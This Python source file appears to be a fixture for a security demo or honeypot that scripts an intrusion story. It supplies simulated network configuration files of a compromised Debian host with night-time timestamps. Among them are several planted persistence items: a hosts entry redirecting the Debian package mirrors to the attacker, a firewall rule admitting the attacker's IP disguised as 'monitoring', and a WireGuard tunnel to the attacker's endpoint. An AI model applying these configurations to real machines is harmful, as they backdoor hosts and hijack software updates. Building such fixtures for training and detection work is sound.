"""Where it stands in the network, and what the intruder did to that."""

from guestshell.demo.story.logins import ATTACKER
from guestshell.demo.story.moments import at, night
from guestshell.demo.story.part import Part

_NOT_A_KEY = "bm90LWEta2V5LW5vdC1hLWtleS1ub3QtYS1rZXkhISE="

PART = Part(
    texts={
        "/etc/hosts": (
            "127.0.0.1\tlocalhost\n192.0.2.10\tweb01.example.org web01\n"
            f"{ATTACKER}\tdeb.debian.org security.debian.org\n"
        ),
        "/etc/network/interfaces": (
            "auto lo\niface lo inet loopback\n\nauto eth0\niface eth0 inet static\n"
            "    address 192.0.2.10/24\n    gateway 192.0.2.1\n    dns-nameservers 192.0.2.53\n"
            "    up ip route add 198.51.100.0/24 via 192.0.2.254\n"
        ),
        "/etc/resolv.conf": "search example.org\nnameserver 192.0.2.53\n",
        "/etc/nsswitch.conf": "hosts: files dns\n",
        "/etc/nftables.conf": (
            "#!/usr/sbin/nft -f\nflush ruleset\ntable inet filter {\n\tchain input {\n"
            "\t\ttype filter hook input priority filter; policy drop;\n"
            '\t\tct state established,related accept\n\t\tiif "lo" accept\n'
            "\t\ttcp dport { 22, 80, 443 } accept\n"
            f'\t\tip saddr {ATTACKER} accept comment "monitoring"\n\t}}\n}}\n'
        ),
        "/etc/wireguard/wg9.conf": (
            f"[Interface]\nAddress = 10.99.0.2/32\nPrivateKey = {_NOT_A_KEY}\n"
            f"[Peer]\nPublicKey = {_NOT_A_KEY}\nEndpoint = {ATTACKER}:51820\n"
            "AllowedIPs = 10.99.0.0/24\n"
        ),
        "/var/lib/dhcp/dhclient.eth0.leases": (
            'lease {\n  interface "eth0";\n  fixed-address 192.0.2.10;\n'
            "  option subnet-mask 255.255.255.0;\n  option routers 192.0.2.1;\n"
            "  option dhcp-lease-time 86400;\n  option dhcp-server-identifier 192.0.2.1;\n"
            "  option domain-name-servers 192.0.2.53;\n  expire 6 2026/03/14 20:00:00;\n}\n"
        ),
    },
    modes={"/etc/wireguard/wg9.conf": 0o600},
    times={
        "/etc/hosts": night("01:43:21"),
        "/etc/nftables.conf": night("01:43:30"),
        "/etc/wireguard/wg9.conf": night("01:43:36"),
        "/var/lib/dhcp/dhclient.eth0.leases": at("2026-03-13 20:00:00"),
    },
)
